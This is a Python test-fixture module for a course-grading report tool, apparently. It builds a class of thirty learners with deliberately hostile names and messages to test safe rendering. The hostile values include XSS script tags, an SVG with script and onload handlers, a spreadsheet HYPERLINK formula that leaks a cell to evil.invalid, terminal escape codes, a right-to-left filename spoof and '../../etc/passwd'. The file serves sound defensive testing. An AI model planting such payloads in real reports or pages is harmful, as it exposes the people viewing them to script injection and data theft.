"""A class of thirty, made by hand: odd names, every outcome, whatever a report must survive."""

from __future__ import annotations

from dataclasses import replace

import numpy as np
from kata_classroom.results import (
    ClassResult,
    Comment,
    Grade,
    LearnerResult,
    Override,
    Provenance,
)
from kata_grader.checking.pictures import picture_of
from kata_grader.submission import Answer, Source
from kata_grader.verdicts import PNG, SVG, Picture, Verdict, told

DECAY, RECORDER, LINE = "ch1_numbers/decay", "ch2_objects/recorder", "ch2_objects/line_fit"
TITLES = {
    DECAY: "An average that forgets",
    RECORDER: "A recorder of values",
    LINE: "A line through points",
}
PIXELS = picture_of(np.add.outer(np.arange(8), np.arange(17)).astype(np.uint8) * 10, "x").data
DRAWING = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="320" height="120">'
    b'<script>document.title = "pwned"; parent.document.title = "pwned"</script>'
    b'<rect width="320" height="120" fill="white"/>'
    b'<polyline points="20,90 100,60 180,45 300,30" fill="none" stroke="#1f77b4"'
    b' stroke-width="2" onload="parent.document.title = 1"/></svg>'
)
SCRIPT = '<script>document.title = "pwned"</script>'
ODD = {
    "script": SCRIPT,
    "formula": '=HYPERLINK("http://evil.invalid/?" & A1, "click")',
    "plus": "+1234 call",
    "at": "@sum(1+1)",
    "rtl": "عادل حسن",
    "override": "Ada\u202egnp.exe",
    "newline": "two\nlines\r\nof a name",
    "escapes": "red \x1b[31mname\x1b[0m\x1b]8;;http://evil.invalid\x07link",
    "long": "Maximilian" * 30,
    "markup": "*bold* | `code` <b>x</b> [link](http://evil.invalid) @someone #1 [red]rich[/red]",
    "attribute": "\" onmouseover='document.title=1' x=\"",
    "template": "{{ 7*7 }} {% raw %} ]]> & &amp; --",
    "path": "../../etc/passwd",
    "surrogate": "broken \ud800 name \x00 \ufffe",
    "wide": "山田 太郎",
    "blank": "   ",
}
PLAIN = [
    *("Ada Lovelace", "Alan Turing", "Barbara Liskov", "Donald Knuth", "Edsger Dijkstra"),
    *("Frances Allen", "Grace Hopper", "Hedy Lamarr", "John Backus", "Katherine Johnson"),
    *("Leslie Lamport", "Margaret Hamilton", "Niklaus Wirth", "Tony Hoare"),
]
SECRET_TITLE = "Xylophone: a riddle that nobody may know"
SECRET_CHECK = "test_xylophone_riddle"
SECRET_MESSAGE = "the xylophone expected 42.4242"
MESSAGE = """\
decay(
    values=array([1., 2., 3.]),
    rate=0.5,
)
  expected an array of shape (3,), floats
  received an array of shape (3,), float64
  first difference at index [1]: received 2.0, which is 0.5 too large"""


def made(**changes):
    """Return what a result was made from."""
    found = {
        "submission": "0" * 64,
        "course": "0.1.0",
        "rules": "1" * 64,
        "python": "3.12.1",
        "numpy": "2.1.0",
        "tensorflow": "",
        "keras": "",
        "isolation": "process",
        "seed": 4711,
        "full": False,
        "limits": {"seconds": 20.0},
        "at": "2025-05-01T12:00:00+00:00",
        "seconds": 0.4,
    }
    return Provenance(**(found | changes))


def verdict(name, outcome="passed", points=2, **more):
    """Return a verdict: its points are all or nothing."""
    title = more.pop("title", name.removeprefix("test_").replace("_", " ").capitalize())
    earned = more.pop("earned", points if outcome == "passed" else 0)
    if message := more.pop("message", ""):
        more["cause"] = told(message)
    return Verdict(name, title, outcome, earned, points, **more)


def secret(outcome="passed"):
    """Return the verdict of the hidden check."""
    message = SECRET_MESSAGE if outcome != "passed" else ""
    more = {"title": SECRET_TITLE, "message": message, "hidden": True}
    return verdict(SECRET_CHECK, outcome, 3, printed=message, **more)


def decay(first="passed", second="passed", hidden="passed", **more):
    """Return the verdicts of the exercise `decay`: ten points, three of them hidden."""
    message = "" if second == "passed" else more.pop("message", MESSAGE)
    return (
        verdict("test_step", first, 2, title="One step: the new state"),
        verdict("test_sequence", second, 5, title="A sequence of values", message=message, **more),
        secret(hidden),
    )


def grade(exercise, *verdicts, standing="graded", **more):
    """Return a grade of an exercise."""
    possible = sum(one.max_points for one in verdicts)
    about = None if standing in ("not_submitted", "not_run") else made()
    return Grade(exercise, standing, tuple(verdicts), possible, **({"made": about} | more))


def missing(exercise):
    """Return the grade of an exercise that was not handed in."""
    verdicts = tuple(
        verdict(one.check, "not_started", one.max_points, title=one.title, hidden=one.hidden)
        for one in (decay() if exercise == DECAY else simple(exercise).verdicts)
    )
    return grade(exercise, *verdicts, standing="not_submitted")


def simple(exercise, outcome="passed", **more):
    """Return the grade of an exercise with two checks, the second with the outcome."""
    message = {"message": "It raised ValueError: no"} if outcome == "error" else {}
    return grade(
        exercise,
        verdict("test_shape", points=4),
        verdict("test_values", outcome, 6, **message),
        **more,
    )


def learner(name, *grades, **more):
    """Return a learner with the grades."""
    return LearnerResult(name, {one.exercise: one for one in grades}, **more)


def plain(name, number):
    """Return an ordinary learner, one like the other but for the points."""
    outcomes = ["passed", "failed", "error", "passed", "timeout"]
    second = "failed" if number % 3 == 0 else "passed"
    mistake = ("no_forgetting", "off_by_one", None)[number % 3 if number % 2 else 0]
    more = {"mistake": mistake} if second == "failed" else {}
    return learner(
        name,
        grade(DECAY, *decay("passed", second, "failed" if number % 4 == 0 else "passed", **more)),
        simple(RECORDER, outcomes[number % 5]),
        simple(LINE, outcomes[(number * 2) % 5]),
    )


def special():
    """Return the learners with whom something is the matter."""
    pictures = (Picture("left: expected, right: yours", PNG, PIXELS), Picture("loss", SVG, DRAWING))
    attack = f"{SCRIPT}\n<img src=x onerror=\"document.title='pwned'\"> \x1b[2J \u202e </pre>"
    override = Override(9.5, "Regraded after a talk", "Prof. Q", "2025-05-03T08:00:00+00:00")
    lower = Override(1, "Copied", "Prof. Q", "2025-05-03T08:00:00+00:00")
    broken = verdict("test_sequence", "not_run", 5, message="could not be run: no dataset")
    first, second, third = (missing(name) for name in TITLES)
    return [
        learner(
            ODD["script"],
            grade(
                DECAY, *decay(second="failed", message=attack, printed=attack, pictures=pictures)
            ),
            simple(RECORDER, "crashed"),
            simple(LINE, "timeout"),
        ),
        learner(
            ODD["formula"], grade(DECAY, *decay(), override=lower), simple(RECORDER), simple(LINE)
        ),
        learner(
            ODD["plus"],
            grade(DECAY, *decay(hidden="failed"), override=override),
            simple(RECORDER),
            third,
        ),
        learner(
            ODD["at"],
            grade(DECAY, *decay(), standing="late", late_days=2, penalty=1.5),
            simple(RECORDER, stale=True),
            simple(LINE, standing="late", late_days=1),
        ),
        learner(
            ODD["rtl"],
            grade(DECAY, *decay()),
            grade(RECORDER, broken, standing="not_run", note="tried twice"),
            simple(LINE),
        ),
        learner(ODD["override"], first, second, third, problem="the zip file is broken"),
        learner(ODD["newline"], first, second, third),
        learner(
            ODD["escapes"],
            grade(DECAY, *decay()),
            simple(RECORDER),
            simple(LINE, "failed"),
        ),
    ]


def of_many_exercises(exercises, checks, every, message):
    """Return a learner of a large course, whose every so manieth check failed with the message."""
    grades, count = [], 0
    for exercise in range(exercises):
        verdicts = []
        for place in range(checks):
            count += 1
            wrong = every and count % every == 0
            more = {"message": f"{count} {message}", "printed": message} if wrong else {}
            title = f"Check {place} of an exercise with a title that is as long as titles are"
            outcome = "failed" if wrong else "passed"
            verdicts.append(verdict(f"test_{place}", outcome, title=title, **more))
        grades.append(grade(f"ch1_numbers/exercise_{exercise}", *verdicts))
    return learner("Ada", *grades)


def commented(name="Ada"):
    """Return a learner whose code has a line that failed, and comments."""
    text = "def decay(values):\n    # why\n    return 'x' + 12\n\n\nclass Other:\n    y = 1\n"
    source = Source("decay.py", text.encode())
    message = "decay raised TypeError: no\n  decay.py, line 3, in decay"
    at = "2025-05-03T08:00:00+00:00"
    comments = (
        Comment("Look at the types.", "Prof. Q", at),
        Comment("A text and\na number?", "Prof. Q", at, 3, answer="0" * 64),
    )
    more = {"answer": Answer("decay.py", (source,)), "comments": comments}
    return learner(name, grade(DECAY, *decay(second="error", message=message), **more))


def class_of_thirty():
    """Return the class."""
    others = [name for key, name in ODD.items() if key not in list(ODD)[:8]]
    everybody = special() + [plain(name, n) for n, name in enumerate([*others, *PLAIN])]
    return ClassResult(
        "A tiny course",
        "0.1.0",
        TITLES,
        tuple(sorted(everybody, key=lambda one: one.name)),
        ("process",),
        ("1 stale result: grade again.", "No sandbox: the answers ran with isolation process."),
    )


def class_of(*learners, **more):
    """Return a class of these learners; who has no grade of an exercise handed nothing in."""
    settings = {"isolation": ("sandbox",)} | more
    exercises = {name: TITLES.get(name, name) for one in learners for name in one.grades}
    absent = {name: grade(name, standing="not_submitted") for name in exercises}
    whole = (
        replace(one, grades={name: one.grades.get(name, absent[name]) for name in exercises})
        for one in learners
    )
    return ClassResult("A tiny course", "0.1.0", exercises, tuple(whole), **settings)
